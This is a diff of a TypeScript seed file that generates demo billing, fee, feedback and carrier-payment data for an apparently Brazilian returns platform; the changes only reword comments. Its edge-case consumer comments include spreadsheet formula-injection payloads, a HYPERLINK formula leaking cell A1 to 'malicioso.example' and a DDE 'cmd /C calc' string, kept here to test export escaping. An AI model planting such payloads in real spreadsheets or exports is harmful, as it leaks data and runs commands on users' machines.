@@ -1,4 +1,4 @@
-// Seeds billing data (subscriptions, fee histories, a year of quota use) and the rows of the reports.
+// Inserts the demo rows for billing (subscriptions, fee histories, a year of quota use) and for the reports.
 import { asc, eq, gt, inArray } from 'drizzle-orm'
 import { type BilledService, billedServices, getFeeField } from '#contract/platform/billing.ts'
 import type { Database } from '#server/db/database.ts'
@@ -20,11 +20,11 @@ import {
 import { demoEcommerceIds, reverseScenarios } from './stories.ts'
 import { demoToday } from './today.ts'
 
-/** Seed of a separate generator, so that changes here do not alter the rest of the demo. */
+/** Seed of a separate random generator, so that changes in this file do not alter the other demo data. */
 const BILLING_SEED = 4217
 const thisYear = demoToday.getUTCFullYear()
 
-/** Every merchant whose id is a multiple of this number has no subscription, fees or quota use. */
+/** Merchants whose id is a multiple of this number have no subscription, no fees and no quota use. */
 const UNBILLED_INTERVAL = 12
 
 type Quota = typeof billingQuotas.$inferSelect
@@ -98,7 +98,7 @@ const comments = [
   'Aditivo contratual nº 7. Vale até a próxima renovação; qualquer mudança de volume acima de 20 % em dois meses seguidos reabre a negociação com o financeiro do lojista.',
 ]
 
-/** Creates a fee history with yearly increases, including future increases. */
+/** Creates a history of fees that change every year; for some merchants, the last change is in the future. */
 function makeFees(random: Random, ecommerce_id: number, service_code: BilledService) {
   const isLojaAzul = ecommerce_id === demoEcommerceIds.lojaAzul
   if (!isLojaAzul && random.chance(0.3)) return []
@@ -122,7 +122,7 @@ function makeFees(random: Random, ecommerce_id: number, service_code: BilledServ
   })
 }
 
-/** Use in the current month so far, as a fraction of the use in a complete month. */
+/** Expected use in the current month so far, as a fraction of the use in a full month. */
 const CURRENT_MONTH_SHARE = 0.53
 
 function makeQuotaUse(random: Random, { ecommerce_id, service_code, monthly_quota }: Quota) {
@@ -131,7 +131,7 @@ function makeQuotaUse(random: Random, { ecommerce_id, service_code, monthly_quot
   if (ecommerce_id !== demoEcommerceIds.lojaAzul && random.chance(0.15)) return []
   const usualUse = (monthly_quota ?? random.between(2, 90) * 100) * (exceedsQuota ? 0.95 : 0.6)
   const months = listLastMonths(demoToday)
-  // Loja Azul exceeds its quota in the current month already.
+  // The merchant Loja Azul has exceeded its quota before the end of the current month.
   const currentMonthFactor = exceedsQuota && ecommerce_id === demoEcommerceIds.lojaAzul ? 1.4 : CURRENT_MONTH_SHARE
   return months.map((month, index) => ({
     ...{ ecommerce_id, service_code, month: getFirstDay(month) },
@@ -141,14 +141,14 @@ function makeQuotaUse(random: Random, { ecommerce_id, service_code, monthly_quot
   }))
 }
 
-/** Seed of a separate generator, so that changes here do not alter the rest of the demo. */
+/** Seed of a separate random generator, so that changes in this file do not alter the other demo data. */
 const REPORT_SEED = 7741
-/** Maximum number of merchants with report data; more would only make a large demo slow to load. */
+/** Maximum number of merchants with report data, so that a large demo loads in acceptable time. */
 const MAX_REPORTED_MERCHANTS = 300
 const MAX_BILLED_MERCHANTS = 60
 const firstMonth = { year: thisYear - 2, month: 1 }
 
-/** Number of reverses that are read at a time, so that a million of them does not exceed the memory. */
+/** Number of reverses (return requests) per query; a million rows at once would exceed the memory. */
 const REVERSES_PER_READ = 20_000
 
 type Reverse = Pick<
@@ -156,7 +156,7 @@ type Reverse = Pick<
   'id' | 'ecommerce_id' | 'status' | 'tracking_code' | 'created_at' | 'updated_at'
 >
 
-/** Seeds the rows of the reports: feedbacks, transfers to carriers, and almost three years of bills. */
+/** Inserts the rows of the reports: ratings of consumers, payments to carriers, and almost three years of bills. */
 export async function seedReports(db: Database, count: number): Promise<void> {
   const random = createRandom(REPORT_SEED)
   const ids = Array.from({ length: Math.min(count, MAX_REPORTED_MERCHANTS) }, (_, index) => index + 1)
@@ -171,7 +171,7 @@ export async function seedReports(db: Database, count: number): Promise<void> {
   await seedBillings(db, random, ids.slice(0, MAX_BILLED_MERCHANTS))
 }
 
-/** Reads all reverses in batches, ordered by id. */
+/** Reads all reverses (return requests) in batches, ordered by id. */
 async function* readReverses(db: Database): AsyncGenerator<readonly Reverse[]> {
   const { id, ecommerce_id, status, tracking_code, created_at, updated_at } = reverses
   for (let lastId = 0; ; ) {
@@ -187,7 +187,7 @@ async function* readReverses(db: Database): AsyncGenerator<readonly Reverse[]> {
   }
 }
 
-/** Statuses of reverses that have reached the merchant. */
+/** Statuses of reverses whose items the merchant has received. */
 const receivedStatuses: ReadonlySet<string | null> = new Set([
   'completed',
   'done',
@@ -215,7 +215,7 @@ const complaints = [
   'O código de postagem demorou três dias para chegar.',
 ]
 
-/** Picks a score from 0 to 10. */
+/** Picks a random consumer rating from 0 to 10; high ratings are more frequent. */
 const pickScore = createWeightedPicker([
   ...([
     [10, 40],
@@ -234,7 +234,7 @@ const pickScore = createWeightedPicker([
   ] as const),
 ])
 
-/** Comments that a spreadsheet would execute, misread or split into columns, and a very long comment. */
+/** Consumer comments that a spreadsheet would execute, misread or split into columns, and a very long comment. */
 const edgeCaseComments = [
   '=HYPERLINK("http://malicioso.example/?q="&A1;"Clique para ver o reembolso")',
   "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -256,7 +256,7 @@ function makeFeedbacks(random: Random, rows: readonly Reverse[]) {
   })
 }
 
-/** Creates a feedback, written within four days after the last change of the reverse. */
+/** Creates a consumer's rating of a return, written within four days after the last change of the reverse. */
 function makeFeedback(random: Random, { id, ecommerce_id, updated_at }: Reverse, scenarioComment?: string) {
   const score = pickScore(random)
   const comment = scenarioComment ?? random.pick(score > 8 ? praise : score > 5 ? remarks : complaints)
@@ -272,8 +272,8 @@ const carriers = [
 ] as const
 
 /**
- * Creates the payment to a carrier, some weeks after the reverse was created; an empty array for reverses without
- * freight or paid later.
+ * Creates the payment for a reverse to a carrier, dated some weeks after the reverse. Returns an empty array if there
+ * is no freight, or if the payment would be in the future.
  */
 function makeTransfers(random: Random, { id, ecommerce_id, status, tracking_code, created_at }: Reverse) {
   const hasFreight = receivedStatuses.has(status) || status === 'shipped' || status === 'delivered'
@@ -305,7 +305,7 @@ async function seedBillings(db: Database, random: Random, ids: readonly number[]
   )
 }
 
-/** Creates one bill per month up to the current month. */
+/** Creates the monthly bills of a merchant up to the current month. */
 function makeBillings(random: Random, ecommerce_id: number) {
   const last = demoToday.getUTCFullYear() * 12 + demoToday.getUTCMonth()
   const first =
